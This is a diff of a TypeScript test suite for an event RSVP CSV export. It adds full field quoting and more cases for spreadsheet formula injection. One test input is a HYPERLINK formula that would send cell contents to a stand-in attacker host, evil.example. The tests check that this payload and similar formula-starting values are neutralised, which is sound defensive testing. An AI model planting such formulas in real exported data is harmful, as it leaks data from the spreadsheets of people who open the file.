@@ -20,9 +20,11 @@ const csvText = (response: { text: string }) => {
   return response.text.slice(1);
 };
 
+/** A CSV line of these cells, every one quoted (RFC 4180: a quote inside is doubled). */
+const quotedLine = (cells: string[]) => cells.map((cell) => `"${cell.replaceAll('"', '""')}"`).join(',');
+
 let seq = 0;
-async function storeRsvp(eventId: string, fields: Partial<RsvpRecord>) {
-  const id = `csv-rsvp-${String(++seq).padStart(3, '0')}`;
+async function storeRsvp(eventId: string, fields: Partial<RsvpRecord>, id = `csv-rsvp-${String(++seq).padStart(3, '0')}`) {
   await api.deps.store.set(RSVPS, id, rsvpRecord(eventId, { createdAt: `2026-11-20T0${seq % 10}:00:00.000Z`, ...fields }));
   return id;
 }
@@ -49,9 +51,9 @@ describe('GET /events/{id}/rsvps.csv', () => {
     // The first bytes on the wire are UTF-8's byte-order mark.
     expect([...Buffer.from(response.text, 'utf8').subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
     expect(csvText(response)).toBe(
-      `${RSVP_CSV_COLUMNS.join(',')}\r\n` +
-        // 00:00 UTC is 17:00 the day before in Denver (the organisation's zone).
-        `Zoë Ångström-Núñez,zoe@example.org,General,confirmed,free,0.00,2026-11-19 17:00,No,,${id}\r\n`,
+      `${quotedLine([...RSVP_CSV_COLUMNS])}\r\n` +
+        // 00:00 UTC is 17:00 the day before in Denver (the organisation's zone). Every field quoted, empty ones too.
+        `${quotedLine(['Zoë Ångström-Núñez', 'zoe@example.org', 'General', 'confirmed', 'free', '0.00', '2026-11-19 17:00', 'No', '', id])}\r\n`,
     );
   });
 
@@ -60,28 +62,49 @@ describe('GET /events/{id}/rsvps.csv', () => {
     expect((await exportOf(event.id)).headers['content-disposition']).toBe(`attachment; filename="${event.id}-rsvps.csv"`);
   });
 
-  it('quotes commas, quotes and line breaks, and neutralises cells a spreadsheet would run as formulas', async () => {
+  it('quotes every field, and neutralises text a spreadsheet would run as a formula, at the start of a cell or after a separator', async () => {
     const event = await createTestEvent(api);
     // A name as typed, and its cell in the file.
     const cases: [name: string, cell: string][] = [
       ['Doe, "Jane"', '"Doe, ""Jane"""'],
       ['Line one\nline two', '"Line one\nline two"'],
       ['=HYPERLINK("http://evil.example/?"&A1,"Click")', `"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`],
-      ['+1 555 0100', "'+1 555 0100"],
-      ['-2+3', "'-2+3"],
-      ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
-      ['\t=1+1', "'\t=1+1"],
-      ['\r=1+1', `"'\r=1+1"`],
-      ['\uFF1D1+1', "'\uFF1D1+1"],
-      ['Ada = Lovelace - 1', 'Ada = Lovelace - 1'],
+      ['+1 555 0100', `"'+1 555 0100"`],
+      ['-2+3', `"'-2+3"`],
+      ['@SUM(A1:A2)', `"'@SUM(A1:A2)"`],
+      ['\uFF1D1+1', `"'\uFF1D1+1"`],
+      // Issue 23 item 11: where ';' is the list separator, '=1+1' was a cell of its own, a live formula.
+      ['Bob;=1+1;', `"Bob;'=1+1;"`],
+      ['Bob,=1+1', `"Bob,'=1+1"`],
+      ['Bob;-1;+2;@x', `"Bob;'-1;'+2;'@x"`],
+      // A tab or CR starts a formula, and splits cells (read as tab-separated) or rows, so what follows starts a cell too.
+      ['\t=1+1', `"'\t'=1+1"`],
+      ['\r=1+1', `"'\r'=1+1"`],
+      ['Ann\n=1+1', `"Ann\n'=1+1"`],
+      // Formula characters inside text are left alone.
+      ['Ada = Lovelace - 1', '"Ada = Lovelace - 1"'],
+      ['Jean-Luc Picard-Crusher', '"Jean-Luc Picard-Crusher"'],
     ];
     for (const [index, [name]] of cases.entries()) await storeRsvp(event.id, { name, email: `case${index}@example.org` });
 
     const text = csvText(await exportOf(event.id));
 
-    for (const [index, [name, cell]] of cases.entries()) expect(text, JSON.stringify(name)).toContain(`\r\n${cell},case${index}@example.org,`);
-    // No cell of any row starts with a formula character.
-    expect(text).not.toMatch(/(^|,|\r\n|")[=+@]/);
+    for (const [index, [name, cell]] of cases.entries()) expect(text, JSON.stringify(name)).toContain(`\r\n${cell},"case${index}@example.org",`);
+    // Split at any separator a reader might use, no piece starts with a formula character.
+    for (const piece of text.split(/[,;\t\r\n]/)) expect(piece.replace(/^"/, ''), JSON.stringify(piece)).not.toMatch(/^[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/);
+  });
+
+  it('writes ticket ids exactly as stored, even one starting with -, never with a stray quote', async () => {
+    const event = await createTestEvent(api);
+    // Ids made before newId stopped starting them with '-', and others of the id alphabet, stored as they are.
+    const ids = ['-Ab3_kLmN0pQrStUvWxYz1', '_underscore-first', 'plainId123'];
+    for (const [index, id] of ids.entries()) await storeRsvp(event.id, { name: `Guest ${index}`, email: `guest${index}@example.org` }, id);
+
+    const lines = csvText(await exportOf(event.id)).trim().split('\r\n').slice(1);
+
+    expect(lines).toHaveLength(ids.length);
+    for (const id of ids) expect(lines.some((line) => line.endsWith(`,"${id}"`)), id).toBe(true);
+    expect(lines.join('\n')).not.toContain(`"'-`);
   });
 
   it('writes amounts in dollars with two decimals and check-ins; keeps cancelled RSVPs, leaves out lapsed checkouts', async () => {
@@ -100,7 +123,7 @@ describe('GET /events/{id}/rsvps.csv', () => {
     const lines = csvText(await exportOf(event.id)).trim().split('\r\n');
 
     expect(lines).toHaveLength(3);
-    expect(lines[1]).toMatch(new RegExp(`^Paid,alex@example.org,General,confirmed,paid,35.50,[^,]+,Yes,2026-12-05 19:45,${paid}$`));
-    expect(lines[2]).toMatch(new RegExp(`^Cancelled,alex@example.org,General,cancelled,refunded,10.00,[^,]+,No,,${cancelled}$`));
+    expect(lines[1]).toMatch(new RegExp(`^"Paid","alex@example.org","General","confirmed","paid","35.50","[^"]+","Yes","2026-12-05 19:45","${paid}"$`));
+    expect(lines[2]).toMatch(new RegExp(`^"Cancelled","alex@example.org","General","cancelled","refunded","10.00","[^"]+","No","","${cancelled}"$`));
   });
 });
